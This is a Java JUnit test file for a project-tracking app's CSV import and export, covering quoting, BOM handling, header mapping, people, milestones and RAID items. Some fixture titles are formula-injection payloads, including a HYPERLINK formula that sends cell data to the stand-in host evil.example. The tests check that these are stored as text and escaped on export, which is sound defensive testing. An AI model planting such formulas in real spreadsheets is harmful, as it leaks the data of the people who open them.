package dev.throughline.interchange;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.throughline.app.Workspace;
import dev.throughline.interchange.ImportPlan.Action;
import dev.throughline.interchange.ImportPlan.Kind;
import dev.throughline.interchange.InterchangeService.CsvInspection;
import dev.throughline.interchange.InterchangeService.ExportFormat;
import dev.throughline.interchange.InterchangeService.ImportResult;
import dev.throughline.milestone.Milestone;
import dev.throughline.milestone.MilestoneStatus;
import dev.throughline.people.Function;
import dev.throughline.people.Person;
import dev.throughline.people.PersonInput;
import dev.throughline.risk.RaidRow;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** CSV in and out: quoting, BOM, hostile formulas, header mapping, milestones, RAID items and people. */
class CsvInterchangeTest {

    @TempDir
    Path folder;

    private Workspace workspace;
    private Person ana;

    @BeforeEach
    void open() {
        workspace = Workspace.open(folder.resolve("w.db"));
        ana = workspace.people().create(new PersonInput("Ana Lima", "", Function.ENGINEERING, "ana@example.com", "", "",
                "Europe/Lisbon", "09:00", "17:00"));
    }

    @AfterEach
    void close() {
        workspace.close();
    }

    private ImportResult importCsv(Path file, HeaderMapping mapping, ImportTarget target) {
        InterchangeService service = workspace.interchange();
        return service.importSource(service.source(service.inspect(file), mapping),
                new ImportOptions(target, java.util.EnumSet.allOf(SourcePlan.TaskKind.class)));
    }

    @Test
    void quotedCommasQuotesLineBreaksBomAndFormulasArriveAsWritten() {
        ImportResult result = importCsv(ProjectImportTest.sample("milestones-bom.csv"), null,
                new ImportTarget.NewProgram("CSV-1", "From a sheet", "Ana Lima"));
        Map<String, Milestone> m = workspace.milestones().milestones(result.programId()).stream()
                .collect(Collectors.toMap(Milestone::title, x -> x));
        assertEquals(4, m.size(), m.keySet().toString());
        Milestone beta = m.get("Beta, with a comma");
        assertEquals("She said \"ship it\"", beta.notes());
        assertEquals(ana.id(), beta.ownerId(), "owner matched by email");
        Milestone twoLines = m.get("Two\nline title");
        assertEquals(LocalDate.of(2026, 3, 1), twoLines.start());
        assertEquals(LocalDate.of(2026, 3, 9), twoLines.forecast());
        assertEquals(MilestoneStatus.IN_PROGRESS, twoLines.status());
        assertEquals("Bo Chen", workspace.people().get(twoLines.ownerId()).name(), "an unknown owner becomes a person");
        assertTrue(m.containsKey("=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")"), "stored as text, not run");
        Milestone cafe = m.get("Café ünïcode ✓");
        assertEquals(MilestoneStatus.DONE, cafe.status(), "the BOM did not eat the first header");
        assertEquals(LocalDate.of(2026, 4, 15), cafe.actual());
    }

    @Test
    void exportIsSpreadsheetSafeAndReadsBack() throws Exception {
        ImportResult result = importCsv(ProjectImportTest.sample("milestones-bom.csv"), null,
                new ImportTarget.NewProgram("CSV-1", "From a sheet", "Ana Lima"));
        Path out = java.nio.file.Files.createDirectories(folder.resolve("out")).resolve("milestones.csv");
        workspace.interchange().export(result.programId(), ExportFormat.CSV, out);

        byte[] bytes = Files.readAllBytes(out);
        assertEquals(0xEF, bytes[0] & 0xFF, "UTF-8 BOM for spreadsheets");
        String text = CsvTable.decode(bytes);
        List<CSVRecord> records;
        try (CSVParser parser = CSVParser.parse(text, CSVFormat.RFC4180.builder().setHeader().get())) {
            records = parser.getRecords();
        }
        Map<String, CSVRecord> byTitle = records.stream().collect(Collectors.toMap(r -> r.get("title"), r -> r));
        assertTrue(byTitle.containsKey("'=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")"), byTitle.keySet().toString());
        assertEquals("'@SUM(1+1)", byTitle.get("'=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")").get("notes"));
        assertEquals("Two\nline title", byTitle.get("Two\nline title").get("title"));
        assertEquals("ana@example.com", byTitle.get("Beta, with a comma").get("owner"));

        ImportPlan again = workspace.interchange().preview(workspace.interchange().source(workspace.interchange().inspect(out), null),
                new ImportOptions(new ImportTarget.Existing(result.programId()), ImportOptions.defaultKinds()));
        assertEquals(4, again.count(Action.MATCH, Kind.MILESTONE), "the export reads back to the same titles: " + again.lines());
    }

    @Test
    void headersAreMappedByTheUser() throws Exception {
        Path file = Files.writeString(folder.resolve("odd.csv"), "Thing,When it lands,Who\nPilot,2026-05-04,Ana Lima\n");
        CsvInspection inspection = (CsvInspection) workspace.interchange().inspect(file);
        assertTrue(inspection.mapping().problems(inspection.table().headers()).size() >= 1, "nothing guessed for title/forecast");
        HeaderMapping mapping = HeaderMapping.guess(CsvKind.MILESTONES, inspection.table().headers())
                .with("title", "Thing").with("forecast", "When it lands").with("owner", "Who");
        ImportResult result = importCsv(file, mapping, new ImportTarget.NewProgram("MAP-1", null, "Ana Lima"));
        Milestone pilot = workspace.milestones().milestones(result.programId()).get(0);
        assertEquals("Pilot", pilot.title());
        assertEquals(LocalDate.of(2026, 5, 4), pilot.forecast());
        assertEquals(ana.id(), pilot.ownerId());
    }

    @Test
    void peopleAreMatchedByEmailAndNewOnesKeepTheirDetails() throws Exception {
        ImportResult result = importCsv(ProjectImportTest.sample("people.csv"), null, new ImportTarget.Directory());
        assertNull(result.programId());
        assertEquals(1, result.plan().count(Action.MATCH, Kind.PERSON));
        Person priya = workspace.people().all().stream().filter(p -> p.name().equals("Priya Raman")).findFirst().orElseThrow();
        assertEquals(Function.UX, priya.function());
        assertEquals("Asia/Kolkata", priya.zone().getId());
        assertEquals("10:00", priya.workStart().toString());
        assertEquals(2, workspace.people().all().size());

        Path out = folder.resolve("people.csv");
        workspace.interchange().exportCsv(null, CsvKind.PEOPLE, out);
        String text = CsvTable.decode(Files.readAllBytes(out));
        assertTrue(text.startsWith("name,email,role,function,zone,work start,work end,slack,gitlab\n"), text);
        assertTrue(text.contains("Priya Raman,priya@example.com,Designer,UX,Asia/Kolkata,10:00,18:00"), text);
    }

    @Test
    void raidItemsImportWithOwnersAndExportBack() throws Exception {
        ImportResult program = importCsv(ProjectImportTest.sample("milestones-bom.csv"), null,
                new ImportTarget.NewProgram("CSV-1", "From a sheet", "Ana Lima"));
        ImportResult result = importCsv(ProjectImportTest.sample("raid.csv"), null, new ImportTarget.Existing(program.programId()));
        List<RaidRow> rows = workspace.risks().rows(program.programId());
        assertEquals(3, rows.size());
        RaidRow vendor = rows.stream().filter(r -> r.item().title().equals("Vendor API rate limits")).findFirst().orElseThrow();
        assertEquals(ana.id(), vendor.item().ownerId());
        assertEquals(16, vendor.item().score());
        assertEquals(LocalDate.of(2026, 2, 1), vendor.item().reviewDate());
        assertTrue(result.plan().lines().stream().anyMatch(l -> l.why().contains("nobody@example.com")),
                "an unknown owner is said, not invented");
        assertTrue(result.plan().lines().stream().anyMatch(l -> l.action() == Action.SKIP
                && l.why().equals("line 5: type “blocker” is not risk, assumption, issue or dependency")), result.plan().lines().toString());

        Path out = folder.resolve("raid-out.csv");
        workspace.interchange().exportCsv(program.programId(), CsvKind.RAID, out);
        String text = new String(Files.readAllBytes(out), StandardCharsets.UTF_8);
        assertTrue(text.contains("risk,Vendor API rate limits,4,4,ana@example.com,open,2026-02-01,\"Ask for a quota raise; cache\"")
                || text.contains("risk,Vendor API rate limits,4,4,ana@example.com,open,2026-02-01,Ask for a quota raise; cache"), text);
    }
}
